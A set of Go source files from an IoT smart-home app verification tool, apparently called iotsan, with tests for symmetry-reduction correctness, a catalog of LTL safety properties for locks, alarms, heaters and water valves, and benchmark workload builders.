			return nil, fmt.Errorf("iotsan: translating %q: %w", name, err)
		}
		apps[name] = a
	}
	return attribution.AttributeNewApp(sys, newApp, apps, opts)
}
