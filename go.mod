module iotsan

go 1.24
