// Equivalence, fold-ratio, and trail-replay gates for symmetry
// reduction: folding isomorphic device-permutation states may shrink
// the explored space, never the distinct-violation set. Every corpus
// group is verified under the concurrent design with symmetry off (the
// oracle) and on, across all three search strategies; the full pipeline
// is exercised with the group scheduler in both modes; and the
// interchangeable-device group must fold at least 30% of its states
// while every reported trail still replays on the raw model.
package iotsan_test

import (
	"fmt"
	"testing"

	"iotsan"
	"iotsan/internal/checker"
	"iotsan/internal/corpus"
	"iotsan/internal/experiments"
	"iotsan/internal/model"
	"iotsan/internal/props"
)

// symGroupModel builds a concurrent-design model for a prefix of one
// market group with the symmetry tables computed (the checker's
// Options.Symmetry decides whether they are used, so one model serves
// oracle and reduced runs).
func symGroupModel(t *testing.T, group, napps, maxEvents int) *model.Model {
	t.Helper()
	sources := corpus.Group(group)
	if napps > 0 && napps < len(sources) {
		sources = sources[:napps]
	}
	apps, err := experiments.TranslateAll(sources)
	if err != nil {
		t.Fatal(err)
	}
	sys := experiments.ExpertConfig(fmt.Sprintf("sym-group-%d", group), sources, apps)
	invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
	if err != nil {
		t.Fatal(err)
	}
	m, err := model.New(sys, apps, model.Options{
		MaxEvents: maxEvents, CheckConflicts: true, Invariants: invs,
		Design: model.Concurrent, Symmetry: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// symWorkloadModel builds the interchangeable-device workload model
// (the fold-ratio gate's fuel: two orbits of three devices each).
func symWorkloadModel(t *testing.T) *model.Model {
	t.Helper()
	m, _, _, err := experiments.SymmetryWorkload()
	if err != nil {
		t.Fatal(err)
	}
	if st := m.SymmetryStats(); st.Orbits != 2 || st.Largest != 3 {
		t.Fatalf("symmetry workload must carry two orbits of 3, got %+v", st)
	}
	return m
}

// TestSymmetryViolationEquivalenceCorpus: on every corpus group,
// symmetry reduction preserves the distinct-violation set exactly —
// under DFS, the level-synchronous parallel strategy, and
// work-stealing — and never explores more states than the full search.
func TestSymmetryViolationEquivalenceCorpus(t *testing.T) {
	for g := 1; g <= 6; g++ {
		g := g
		t.Run(fmt.Sprintf("group%d", g), func(t *testing.T) {
			t.Parallel()
			cfg := porCorpusConfigs[g-1]
			m := symGroupModel(t, g, cfg.napps, cfg.events)
			base := checker.Options{MaxDepth: 100}
			oracle := checker.Run(m.System(), base)
			if oracle.Truncated {
				t.Fatal("oracle run truncated; the equivalence gate needs full exploration")
			}
			want := violationSet(oracle)
			if len(want) == 0 {
				t.Fatal("oracle found no violations — the equivalence check is vacuous")
			}
			for _, strat := range []checker.StrategyKind{checker.StrategyDFS, checker.StrategyParallel, checker.StrategySteal} {
				o := base
				o.Strategy = strat
				o.Workers = 2
				o.Symmetry = true
				res := checker.Run(m.System(), o)
				if res.Truncated {
					t.Fatalf("%v+symmetry: truncated", strat)
				}
				if res.StatesExplored > oracle.StatesExplored {
					t.Errorf("%v+symmetry explored %d states, more than the full search's %d",
						strat, res.StatesExplored, oracle.StatesExplored)
				}
				got := violationSet(res)
				if len(got) != len(want) {
					t.Errorf("%v+symmetry: %d distinct violations, oracle %d", strat, len(got), len(want))
					continue
				}
				for i := range got {
					if got[i] != want[i] {
						t.Errorf("%v+symmetry: violation sets differ at %d:\nsym:    %q\noracle: %q", strat, i, got[i], want[i])
						break
					}
				}
			}
		})
	}
}

// TestSymmetryViolationEquivalenceInterchangeable: the same gate on the
// dedicated interchangeable-device group — where the orbits are large
// and folding is heavy — under both concurrency designs, all three
// strategies, and composed with POR.
func TestSymmetryViolationEquivalenceInterchangeable(t *testing.T) {
	for _, design := range []model.Design{model.Sequential, model.Concurrent} {
		design := design
		t.Run(design.String(), func(t *testing.T) {
			t.Parallel()
			sys, apps, err := experiments.SymmetrySystem("sym-equiv-" + design.String())
			if err != nil {
				t.Fatal(err)
			}
			invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
			if err != nil {
				t.Fatal(err)
			}
			m, err := model.New(sys, apps, model.Options{
				MaxEvents: 2, CheckConflicts: true, Invariants: invs,
				Design: design, Symmetry: true,
			})
			if err != nil {
				t.Fatal(err)
			}
			base := checker.Options{MaxDepth: 100}
			oracle := checker.Run(m.System(), base)
			if oracle.Truncated {
				t.Fatal("oracle truncated")
			}
			want := violationSet(oracle)
			if len(want) == 0 {
				t.Fatal("oracle found no violations — the equivalence check is vacuous")
			}
			for _, strat := range []checker.StrategyKind{checker.StrategyDFS, checker.StrategyParallel, checker.StrategySteal} {
				for _, por := range []bool{false, true} {
					if por && design != model.Concurrent {
						continue // POR engages only in the concurrent design
					}
					o := base
					o.Strategy = strat
					o.Workers = 2
					o.Symmetry = true
					o.POR = por
					res := checker.Run(m.System(), o)
					name := fmt.Sprintf("%v por=%v", strat, por)
					if res.Truncated {
						t.Fatalf("%s: truncated", name)
					}
					if got := violationSet(res); !equalStringSlices(got, want) {
						t.Errorf("%s: violation set differs:\nsym:    %v\noracle: %v", name, got, want)
					}
				}
			}
		})
	}
}

// TestSymmetryGroupSchedulerEquivalence: symmetry composes with the
// full pipeline — dependency analysis, related-set decomposition,
// per-group verification — reporting the identical deduped violation
// set for every strategy with GroupParallel off and on.
func TestSymmetryGroupSchedulerEquivalence(t *testing.T) {
	sources := corpus.Group(1)[:12]
	apps, err := experiments.TranslateAll(sources)
	if err != nil {
		t.Fatal(err)
	}
	sys := experiments.ExpertConfig("sym-sched", sources, apps)

	base := iotsan.Options{MaxEvents: 2, Design: iotsan.Concurrent}
	oracle, err := iotsan.AnalyzeTranslated(sys, apps, base)
	if err != nil {
		t.Fatal(err)
	}
	want := reportViolationKeys(oracle)
	if len(want) == 0 {
		t.Fatal("oracle found no violations — the equivalence check is vacuous")
	}

	for _, strat := range []iotsan.Strategy{iotsan.StrategyDFS, iotsan.StrategyParallel, iotsan.StrategySteal} {
		for _, groupParallel := range []bool{false, true} {
			name := fmt.Sprintf("strategy=%v group-parallel=%v", strat, groupParallel)
			o := base
			o.Strategy = strat
			o.Workers = 4
			o.GroupParallel = groupParallel
			o.Symmetry = true
			rep, err := iotsan.AnalyzeTranslated(sys, apps, o)
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			got := reportViolationKeys(rep)
			if len(got) != len(want) {
				t.Errorf("%s: %d distinct violations, oracle %d", name, len(got), len(want))
				continue
			}
			for i := range got {
				if got[i] != want[i] {
					t.Errorf("%s: violation sets differ at %d:\nsym:    %q\noracle: %q", name, i, got[i], want[i])
					break
				}
			}
		}
	}
}

// TestSymmetryReductionGate: the CI teeth behind the fold claim — on
// the interchangeable-device workload (two orbits of three devices)
// symmetry must cut the explored state space by at least 30% while
// preserving the violation set, and must keep paying on top of POR.
func TestSymmetryReductionGate(t *testing.T) {
	m := symWorkloadModel(t)
	base := checker.Options{MaxDepth: 100}
	full := checker.Run(m.System(), base)
	if full.Truncated {
		t.Fatal("full run truncated")
	}
	sym := base
	sym.Symmetry = true
	red := checker.Run(m.System(), sym)
	if red.Truncated {
		t.Fatal("symmetry run truncated")
	}
	if got, want := violationSet(red), violationSet(full); !equalStringSlices(got, want) {
		t.Fatalf("symmetry changed the violation set:\nsym:    %v\noracle: %v", got, want)
	}
	ratio := 1 - float64(red.StatesExplored)/float64(full.StatesExplored)
	t.Logf("states %d → %d (%.1f%% fold)", full.StatesExplored, red.StatesExplored, ratio*100)
	if ratio < 0.30 {
		t.Errorf("symmetry folded %.1f%% of explored states, want >= 30%%", ratio*100)
	}

	// Composed with POR: the reductions must stack — POR+symmetry may
	// not explore more states than POR alone, and still finds the same
	// violations.
	por := base
	por.POR = true
	porOnly := checker.Run(m.System(), por)
	por.Symmetry = true
	both := checker.Run(m.System(), por)
	if porOnly.Truncated || both.Truncated {
		t.Fatal("POR runs truncated")
	}
	if got, want := violationSet(both), violationSet(full); !equalStringSlices(got, want) {
		t.Fatalf("POR+symmetry changed the violation set:\nboth:   %v\noracle: %v", got, want)
	}
	if both.StatesExplored > porOnly.StatesExplored {
		t.Errorf("POR+symmetry explored %d states, more than POR alone's %d",
			both.StatesExplored, porOnly.StatesExplored)
	}
	t.Logf("composed: full %d, POR %d, symmetry %d, POR+symmetry %d",
		full.StatesExplored, porOnly.StatesExplored, red.StatesExplored, both.StatesExplored)
}

// TestSymmetryTrailReplaysOnModel: every trail reported under symmetry
// reduction (work-stealing, the strategy with parent-link trails)
// replays from the initial state through genuine transitions of the
// *raw* model to its violation — folding must never leave a trail that
// only exists in the quotient graph.
func TestSymmetryTrailReplaysOnModel(t *testing.T) {
	m := symWorkloadModel(t)
	sys := m.System()
	res := checker.Run(sys, checker.Options{
		MaxDepth: 100, Strategy: checker.StrategySteal, Workers: 4, Symmetry: true,
	})
	if len(res.Violations) == 0 {
		t.Fatal("no violations reported — the replay check is vacuous")
	}
	for _, f := range res.Violations {
		cur := sys.Initial()
		violated := false
	steps:
		for i, step := range f.Trail {
			for _, tr := range sys.Expand(cur) {
				if tr.Label != step.Label {
					continue
				}
				for _, v := range tr.Violations {
					if v.Property == f.Property && v.Detail == f.Detail {
						violated = true
					}
				}
				cur = tr.Next
				continue steps
			}
			t.Fatalf("%s: trail step %d (%q) is not a transition of the replayed state", f.Violation, i, step.Label)
		}
		for _, v := range sys.Inspect(cur) {
			if v.Property == f.Property && v.Detail == f.Detail {
				violated = true
			}
		}
		if !violated {
			t.Errorf("%s: replayed trail does not exhibit the violation", f.Violation)
		}
	}
}
