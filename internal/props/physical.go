package props

import (
	"iotsan/internal/config"
	"iotsan/internal/device"
	"iotsan/internal/model"
)

func modelOf(name string) *device.Model { return device.ModelByName(name) }

// ---- atom builders ----

type atomMap = map[string]func(v *model.View) bool

// anyAssoc is true when any device with the role has attr == value.
func anyAssoc(role, attr, value string) func(v *model.View) bool {
	return func(v *model.View) bool {
		for _, d := range v.ByAssociation(role) {
			if v.AttrEquals(d, attr, value) {
				return true
			}
		}
		return false
	}
}

// allAssoc is true when every device with the role has attr == value.
func allAssoc(role, attr, value string) func(v *model.View) bool {
	return func(v *model.View) bool {
		for _, d := range v.ByAssociation(role) {
			if !v.AttrEquals(d, attr, value) {
				return false
			}
		}
		return true
	}
}

// anyCap is true when any device with the capability has attr == value.
func anyCap(capName, attr, value string) func(v *model.View) bool {
	return func(v *model.View) bool {
		for _, d := range v.ByCapability(capName) {
			if v.AttrEquals(d, attr, value) {
				return true
			}
		}
		return false
	}
}

// tempBelow / tempAbove read any temperature sensor.
func tempBelow(th int64) func(v *model.View) bool {
	return func(v *model.View) bool {
		for _, d := range v.ByCapability("temperatureMeasurement") {
			if n, ok := v.AttrNumber(d, "temperature"); ok && n < th {
				return true
			}
		}
		return false
	}
}

func tempAbove(th int64) func(v *model.View) bool {
	return func(v *model.View) bool {
		for _, d := range v.ByCapability("temperatureMeasurement") {
			if n, ok := v.AttrNumber(d, "temperature"); ok && n > th {
				return true
			}
		}
		return false
	}
}

func numBelow(capName, attr string, th int64) func(v *model.View) bool {
	return func(v *model.View) bool {
		for _, d := range v.ByCapability(capName) {
			if n, ok := v.AttrNumber(d, attr); ok && n < th {
				return true
			}
		}
		return false
	}
}

func numAbove(capName, attr string, th int64) func(v *model.View) bool {
	return func(v *model.View) bool {
		for _, d := range v.ByCapability(capName) {
			if n, ok := v.AttrNumber(d, attr); ok && n > th {
				return true
			}
		}
		return false
	}
}

func modeIs(mode string) func(v *model.View) bool {
	return func(v *model.View) bool { return v.Mode() == mode }
}

// Memo slots for the shared atoms: one View.Memo slot per atom name, so
// the dozens of catalog properties referencing the same predicate scan
// the device lists once per inspected state instead of once per
// property. Slot identity assumes one Thresholds per compiled invariant
// set (CompileInvariants compiles a whole catalog with a single th, so
// same-named atoms are identical predicates).
const (
	slotAnyoneHome = iota
	slotModeAway
	slotModeHome
	slotModeNight
	slotSmoke
	slotCO
	slotLeak
	slotMotion
	slotTempLow
	slotTempHigh
	slotHeaterOn
	slotHeaterOff
	slotACOn
	slotACOff
	slotMainLocked
	slotMainUnlocked
	slotAnyLockUnlocked
	slotGarageOpen
	slotGarageClosed
	slotEntryOpen
	slotAnyDoorOpen
	slotAlarmOff
	slotSecurityArmed
	slotCamera
	slotButtonHeld
	slotSleeping
	slotFireValveClosed
	slotWaterMainOpen
	slotWaterMainClosed
	slotSprinklerOn
	slotSprinklerOff
	slotSoilDry
	slotSoilWet
	slotHumidityHigh
	slotAwayDeviceOn
	slotNightDeviceOn
	slotEntertainmentOn
	slotShadeOpen
	slotNightLightOn
	slotThermSpanBad
	numSlots
)

// shared wraps an atom predicate in its per-state memo slot.
func shared(slot int, f func(*model.View) bool) func(*model.View) bool {
	return func(v *model.View) bool { return v.Memo(slot, f) }
}

// commonAtoms are shared across the catalog.
func commonAtoms(sys *config.System, th Thresholds) atomMap {
	if numSlots > model.ViewMemoSlots {
		panic("props: atom catalog outgrew model.ViewMemoSlots")
	}
	return atomMap{
		"anyone_home":    shared(slotAnyoneHome, func(v *model.View) bool { return v.AnyoneHome() }),
		"mode_away":      shared(slotModeAway, modeIs("Away")),
		"mode_home":      shared(slotModeHome, modeIs("Home")),
		"mode_night":     shared(slotModeNight, modeIs("Night")),
		"smoke_detected": shared(slotSmoke, func(v *model.View) bool { return v.SmokeDetected() }),
		"co_detected":    shared(slotCO, func(v *model.View) bool { return v.CODetected() }),
		"leak_detected":  shared(slotLeak, func(v *model.View) bool { return v.LeakDetected() }),
		"motion_active":  shared(slotMotion, func(v *model.View) bool { return v.AnyMotion() }),
		"temp_low":       shared(slotTempLow, tempBelow(th.TempLow)),
		"temp_high":      shared(slotTempHigh, tempAbove(th.TempHigh)),

		"heater_on":  shared(slotHeaterOn, anyAssoc(RoleHeater, "switch", "on")),
		"heater_off": shared(slotHeaterOff, anyAssoc(RoleHeater, "switch", "off")),
		"ac_on":      shared(slotACOn, anyAssoc(RoleAC, "switch", "on")),
		"ac_off":     shared(slotACOff, anyAssoc(RoleAC, "switch", "off")),

		"main_door_locked":   shared(slotMainLocked, allAssoc(RoleMainDoor, "lock", "locked")),
		"main_door_unlocked": shared(slotMainUnlocked, anyAssoc(RoleMainDoor, "lock", "unlocked")),
		"any_lock_unlocked":  shared(slotAnyLockUnlocked, anyCap("lock", "lock", "unlocked")),
		"garage_open":        shared(slotGarageOpen, anyAssoc(RoleGarage, "door", "open")),
		"garage_closed":      shared(slotGarageClosed, allAssoc(RoleGarage, "door", "closed")),
		"entry_contact_open": shared(slotEntryOpen, anyAssoc(RoleEntryContact, "contact", "open")),
		"any_door_open":      shared(slotAnyDoorOpen, anyCap("doorControl", "door", "open")),

		// alarm_active shares alarm_off's slot (it is its negation), so
		// the alarm scan runs at most once per state.
		"alarm_active":     func(v *model.View) bool { return !v.Memo(slotAlarmOff, allAlarmsOff) },
		"alarm_off":        shared(slotAlarmOff, allAlarmsOff),
		"security_armed":   shared(slotSecurityArmed, anyAssoc(RoleSecuritySw, "switch", "on")),
		"camera_capturing": shared(slotCamera, anyAssoc(RoleCamera, "image", "taken")),
		"button_held":      shared(slotButtonHeld, anyCap("button", "button", "held")),
		"sleeping":         shared(slotSleeping, anyCap("sleepSensor", "sleeping", "sleeping")),

		"fire_valve_closed": shared(slotFireValveClosed, anyAssoc(RoleFireValve, "valve", "closed")),
		"water_main_open":   shared(slotWaterMainOpen, anyAssoc(RoleWaterMain, "valve", "open")),
		"water_main_closed": shared(slotWaterMainClosed, allAssoc(RoleWaterMain, "valve", "closed")),
		"sprinkler_on":      shared(slotSprinklerOn, anyAssoc(RoleSprinkler, "switch", "on")),
		"sprinkler_off":     shared(slotSprinklerOff, allAssoc(RoleSprinkler, "switch", "off")),
		"soil_dry":          shared(slotSoilDry, numBelow("soilMoistureMeasurement", "soilMoisture", th.SoilLow)),
		"soil_wet":          shared(slotSoilWet, numAbove("soilMoistureMeasurement", "soilMoisture", th.SoilHigh)),
		"humidity_high":     shared(slotHumidityHigh, numAbove("relativeHumidityMeasurement", "humidity", th.HumidHigh)),

		"away_device_on":      shared(slotAwayDeviceOn, anyAssoc(RoleAwayDevice, "switch", "on")),
		"night_device_on":     shared(slotNightDeviceOn, anyAssoc(RoleNightDevice, "switch", "on")),
		"entertainment_on":    shared(slotEntertainmentOn, anyAssoc(RoleEntertainment, "status", "playing")),
		"shade_open":          shared(slotShadeOpen, anyAssoc(RoleShade, "windowShade", "open")),
		"night_light_on":      shared(slotNightLightOn, anyAssoc(RoleNightLight, "switch", "on")),
		"thermostat_span_bad": shared(slotThermSpanBad, thermostatSpanBad),
	}
}

func allAlarmsOff(v *model.View) bool {
	for _, d := range v.ByCapability("alarm") {
		if !v.AttrEquals(d, "alarm", "off") {
			return false
		}
	}
	return true
}

func thermostatSpanBad(v *model.View) bool {
	for _, d := range v.ByCapability("thermostat") {
		h, ok1 := v.AttrNumber(d, "heatingSetpoint")
		c, ok2 := v.AttrNumber(d, "coolingSetpoint")
		if ok1 && ok2 && h > c {
			return true
		}
	}
	return false
}

func phys(id, category, desc, formula string, roles, caps []string) Property {
	return Property{
		ID: id, Category: category, Description: desc, Kind: Physical,
		LTL: formula, Roles: roles, Capabilities: caps,
		atoms: commonAtoms,
	}
}

// physicalCatalog returns the 38 safe-physical-state properties of
// Table 4 (5 thermostat/AC/heater + 8 lock/door + 3 location mode + 14
// security/alarm + 3 water/sprinkler + 5 others).
func physicalCatalog() []Property {
	const (
		catTherm = "Thermostat, AC, and Heater"
		catLock  = "Lock and door control"
		catMode  = "Location mode"
		catSec   = "Security and alarming"
		catWater = "Water and sprinkler"
		catOther = "Others"
	)
	return []Property{
		// ---- Thermostat, AC, and Heater (5) ----
		phys("therm.heater-on-when-cold-at-home", catTherm,
			"A heater should not be off when the temperature is below the threshold and people are at home",
			"G !(anyone_home && temp_low && heater_off)",
			[]string{RoleHeater}, []string{"temperatureMeasurement", "presenceSensor"}),
		phys("therm.heater-not-on-when-hot", catTherm,
			"A heater is turned on when temperature is above a predefined threshold",
			"G !(temp_high && heater_on)",
			[]string{RoleHeater}, []string{"temperatureMeasurement"}),
		phys("therm.ac-not-on-when-cold", catTherm,
			"An AC is turned on when temperature is below a predefined threshold",
			"G !(temp_low && ac_on)",
			[]string{RoleAC}, []string{"temperatureMeasurement"}),
		phys("therm.ac-and-heater-both-on", catTherm,
			"An AC and a heater are both turned on",
			"G !(ac_on && heater_on)",
			[]string{RoleAC, RoleHeater}, nil),
		phys("therm.setpoint-span", catTherm,
			"A thermostat's heating setpoint must not exceed its cooling setpoint",
			"G !thermostat_span_bad",
			nil, []string{"thermostat"}),

		// ---- Lock and door control (8) ----
		phys("lock.main-door-when-away", catLock,
			"The main door should be locked when no one is at home",
			"G (anyone_home || main_door_locked)",
			[]string{RoleMainDoor}, []string{"presenceSensor"}),
		phys("lock.main-door-at-night", catLock,
			"The main door should be locked when people are sleeping at night",
			"G (!mode_night || main_door_locked)",
			[]string{RoleMainDoor}, nil),
		phys("lock.unlockable-during-fire", catLock,
			"The main door must not stay locked while smoke is detected and people are at home",
			"G !(smoke_detected && anyone_home && main_door_locked)",
			[]string{RoleMainDoor}, []string{"smokeDetector", "presenceSensor"}),
		phys("lock.garage-closed-when-away", catLock,
			"The garage door should be closed when no one is at home",
			"G (anyone_home || garage_closed)",
			[]string{RoleGarage}, []string{"presenceSensor"}),
		phys("lock.garage-closed-at-night", catLock,
			"The garage door should be closed at night",
			"G (!mode_night || garage_closed)",
			[]string{RoleGarage}, nil),
		phys("lock.all-locked-when-away", catLock,
			"Every lock should be locked when the location mode is Away",
			"G !(mode_away && any_lock_unlocked)",
			nil, []string{"lock"}),
		phys("lock.doors-closed-when-away", catLock,
			"Controlled doors should be closed when no one is at home",
			"G !(mode_away && any_door_open)",
			nil, []string{"doorControl"}),
		phys("lock.entry-closed-when-away", catLock,
			"The entry door contact should not be open when no one is at home",
			"G (anyone_home || !entry_contact_open)",
			[]string{RoleEntryContact}, []string{"presenceSensor"}),

		// ---- Location mode (3) ----
		phys("mode.away-when-no-one-home", catMode,
			"Location mode should be changed to Away when no one is at home",
			"G (anyone_home || mode_away)",
			nil, []string{"presenceSensor"}),
		phys("mode.not-away-when-home", catMode,
			"Location mode should not be Away while someone is at home",
			"G !(anyone_home && mode_away)",
			nil, []string{"presenceSensor"}),
		phys("mode.night-when-sleeping", catMode,
			"Location mode should be Night while people are sleeping",
			"G (!sleeping || mode_night)",
			nil, []string{"sleepSensor"}),

		// ---- Security and alarming (14) ----
		phys("sec.alarm-on-smoke", catSec,
			"An alarm should strobe/siren when detecting smoke",
			"G (!smoke_detected || alarm_active)",
			[]string{RoleAlarm}, []string{"smokeDetector"}),
		phys("sec.alarm-on-co", catSec,
			"An alarm should strobe/siren when detecting carbon monoxide",
			"G (!co_detected || alarm_active)",
			[]string{RoleAlarm}, []string{"carbonMonoxideDetector"}),
		phys("sec.alarm-on-intrusion-motion", catSec,
			"An alarm should be triggered when motion is detected while no one is at home",
			"G !(mode_away && motion_active && alarm_off)",
			[]string{RoleAlarm}, []string{"motionSensor"}),
		phys("sec.alarm-on-intrusion-contact", catSec,
			"An alarm should be triggered when the entry opens while no one is at home",
			"G !(mode_away && entry_contact_open && alarm_off)",
			[]string{RoleAlarm, RoleEntryContact}, nil),
		phys("sec.no-spurious-alarm", catSec,
			"Siren/strobe is activated when no intruder or hazard is detected",
			"G (alarm_off || smoke_detected || co_detected || leak_detected || motion_active || entry_contact_open || button_held)",
			[]string{RoleAlarm}, nil),
		phys("sec.armed-when-away", catSec,
			"The security system should be armed when the location mode is Away",
			"G (!mode_away || security_armed)",
			[]string{RoleSecuritySw}, nil),
		phys("sec.disarmed-when-home", catSec,
			"The siren should not sound while the mode is Home and someone is present",
			"G !(mode_home && anyone_home && alarm_active && !smoke_detected && !co_detected)",
			[]string{RoleAlarm}, []string{"presenceSensor"}),
		phys("sec.sprinkler-supply-during-fire", catSec,
			"The fire sprinkler valve must not be closed while smoke is detected",
			"G !(smoke_detected && fire_valve_closed)",
			[]string{RoleFireValve}, []string{"smokeDetector"}),
		phys("sec.camera-on-intrusion", catSec,
			"A camera should capture when motion is detected while no one is at home",
			"G !(mode_away && motion_active && !camera_capturing)",
			[]string{RoleCamera}, []string{"motionSensor"}),
		phys("sec.camera-privacy-at-home", catSec,
			"Cameras should not capture while the family is at home in Home mode",
			"G !(mode_home && anyone_home && camera_capturing)",
			[]string{RoleCamera}, []string{"presenceSensor"}),
		phys("sec.alarm-on-panic-button", catSec,
			"An alarm should be triggered when the panic button is held",
			"G (!button_held || alarm_active)",
			[]string{RoleAlarm}, []string{"button"}),
		phys("sec.heater-off-during-fire", catSec,
			"A heater should be switched off while smoke is detected",
			"G !(smoke_detected && heater_on)",
			[]string{RoleHeater}, []string{"smokeDetector"}),
		phys("sec.outlets-off-during-fire", catSec,
			"High-power away-off outlets should be off while smoke is detected",
			"G !(smoke_detected && away_device_on)",
			[]string{RoleAwayDevice}, []string{"smokeDetector"}),
		phys("sec.alarm-on-leak", catSec,
			"An alarm should be triggered when a water leak is detected",
			"G (!leak_detected || alarm_active)",
			[]string{RoleAlarm}, []string{"waterSensor"}),

		// ---- Water and sprinkler (3) ----
		phys("water.sprinkler-on-when-dry", catWater,
			"Soil moisture should be within a predefined range: the sprinkler runs when soil is dry",
			"G !(soil_dry && sprinkler_off)",
			[]string{RoleSprinkler}, []string{"soilMoistureMeasurement"}),
		phys("water.sprinkler-off-when-wet", catWater,
			"Soil moisture should be within a predefined range: the sprinkler stops when soil is wet",
			"G !(soil_wet && sprinkler_on)",
			[]string{RoleSprinkler}, []string{"soilMoistureMeasurement"}),
		phys("water.main-closed-on-leak", catWater,
			"The main water valve should be closed when a leak is detected",
			"G (!leak_detected || water_main_closed)",
			[]string{RoleWaterMain}, []string{"waterSensor"}),

		// ---- Others (5) ----
		phys("other.away-devices-off", catOther,
			"Some devices should not be turned on when no one is at home",
			"G (anyone_home || !away_device_on)",
			[]string{RoleAwayDevice}, []string{"presenceSensor"}),
		phys("other.night-devices-off", catOther,
			"Designated devices should be off during Night mode",
			"G !(mode_night && night_device_on)",
			[]string{RoleNightDevice}, nil),
		phys("other.entertainment-off-at-night", catOther,
			"Entertainment devices should not be playing during Night mode",
			"G !(mode_night && entertainment_on)",
			[]string{RoleEntertainment}, nil),
		phys("other.shades-closed-at-night", catOther,
			"Window shades should be closed during Night mode",
			"G !(mode_night && shade_open)",
			[]string{RoleShade}, nil),
		phys("other.water-main-open-when-home", catOther,
			"The main water valve should not be closed while people are at home with no leak",
			"G !(anyone_home && !leak_detected && water_main_closed)",
			[]string{RoleWaterMain}, []string{"presenceSensor"}),
	}
}
