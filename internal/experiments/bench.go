package experiments

import (
	"fmt"

	"iotsan"
	"iotsan/internal/checker"
	"iotsan/internal/config"
	"iotsan/internal/corpus"
	"iotsan/internal/ir"
	"iotsan/internal/model"
	"iotsan/internal/props"
)

// ParallelCheckWorkload builds the canonical checker-throughput
// workload: the largest market group under an expert configuration with
// the full invariant catalog, capped so every engine variant performs
// identical expansion work. BenchmarkParallelCheck and `iotsan-bench
// -table perf` (the BENCH_<date>.json record) share this single
// definition so the committed perf trajectory always measures exactly
// what the benchmark measures.
func ParallelCheckWorkload() (*model.Model, checker.Options, string, error) {
	largest := 1
	for g := 2; g <= 6; g++ {
		if len(corpus.Group(g)) > len(corpus.Group(largest)) {
			largest = g
		}
	}
	sources := corpus.Group(largest)
	apps, err := TranslateAll(sources)
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	sys := ExpertConfig("parallel-bench", sources, apps)
	invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	m, err := model.New(sys, apps, model.Options{
		MaxEvents: 3, CheckConflicts: true, Invariants: invs,
	})
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	copts := checker.Options{MaxDepth: 66, MaxStates: 20000}
	desc := fmt.Sprintf("market group %d (%d apps), MaxEvents=3, full invariants, cap %d states",
		largest, len(sources), copts.MaxStates)
	return m, copts, desc, nil
}

// GroupSchedulerWorkload builds the canonical multi-group Analyze
// workload: the two largest market groups installed as one system, so
// dependency analysis decomposes verification into many independent
// related sets. `iotsan-bench -table perf` runs it with sequential
// groups and with the concurrent group scheduler under the shared
// worker budget, recording the wall-clock for each into
// BENCH_<date>.json.
func GroupSchedulerWorkload() (*config.System, map[string]*ir.App, iotsan.Options, string, error) {
	sizes := make([]int, 7)
	for g := 1; g <= 6; g++ {
		sizes[g] = len(corpus.Group(g))
	}
	first, second := 1, 2
	for g := 2; g <= 6; g++ {
		switch {
		case sizes[g] > sizes[first]:
			first, second = g, first
		case g != first && sizes[g] > sizes[second]:
			second = g
		}
	}
	sources := append(append([]corpus.Source{}, corpus.Group(first)...), corpus.Group(second)...)
	apps, err := TranslateAll(sources)
	if err != nil {
		return nil, nil, iotsan.Options{}, "", err
	}
	sys := ExpertConfig("group-sched-bench", sources, apps)
	opts := iotsan.Options{
		MaxEvents:       2,
		MaxStatesPerSet: 20000,
	}
	desc := fmt.Sprintf("market groups %d+%d (%d apps), MaxEvents=2, cap %d states/set",
		first, second, len(sources), opts.MaxStatesPerSet)
	return sys, apps, opts, desc, nil
}

// PORWorkload builds the canonical partial-order-reduction workload:
// the first 12 apps of market group 1 under the concurrent design at
// MaxEvents=2 with the full invariant catalog — fully explorable, so
// the with/without-POR state counts compare complete searches. The POR
// reduction gate (TestPORReductionGate) and `iotsan-bench -table perf`
// (the states-before/after + reduction-ratio record in
// BENCH_<date>.json) share this workload shape.
func PORWorkload() (*model.Model, checker.Options, string, error) {
	sources := corpus.Group(1)
	if len(sources) > 12 {
		sources = sources[:12]
	}
	apps, err := TranslateAll(sources)
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	sys := ExpertConfig("por-bench", sources, apps)
	invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	m, err := model.New(sys, apps, model.Options{
		MaxEvents: 2, CheckConflicts: true, Invariants: invs, Design: model.Concurrent,
	})
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	copts := checker.Options{MaxDepth: 100}
	desc := fmt.Sprintf("market group 1 prefix (%d apps), concurrent design, MaxEvents=2, full invariants", len(sources))
	return m, copts, desc, nil
}

// GroupModel builds the verification model for a configured system
// with the full invariant catalog at MaxEvents=2 — the equal-work
// benchmark workload (fully explorable, so every checker strategy
// performs identical expansion work).
func GroupModel(sys *config.System, apps map[string]*ir.App) (*model.Model, error) {
	invs, err := props.CompileInvariants(sys, nil, props.DefaultThresholds())
	if err != nil {
		return nil, err
	}
	return model.New(sys, apps, model.Options{
		MaxEvents: 2, CheckConflicts: true, Invariants: invs,
	})
}
