package experiments

import (
	"fmt"

	"iotsan"
	"iotsan/internal/checker"
	"iotsan/internal/config"
	"iotsan/internal/corpus"
	"iotsan/internal/ir"
	"iotsan/internal/model"
	"iotsan/internal/props"
)

// ParallelCheckWorkload builds the canonical checker-throughput
// workload: the largest market group under an expert configuration with
// the full invariant catalog, capped so every engine variant performs
// identical expansion work. BenchmarkParallelCheck and `iotsan-bench
// -table perf` (the BENCH_<date>.json record) share this single
// definition so the committed perf trajectory always measures exactly
// what the benchmark measures.
func ParallelCheckWorkload() (*model.Model, checker.Options, string, error) {
	largest := 1
	for g := 2; g <= 6; g++ {
		if len(corpus.Group(g)) > len(corpus.Group(largest)) {
			largest = g
		}
	}
	sources := corpus.Group(largest)
	apps, err := TranslateAll(sources)
	if err != nil {
		return nil, checker.Options{}, "", err
	}
	sys := ExpertConfig("parallel-bench", sources, apps)
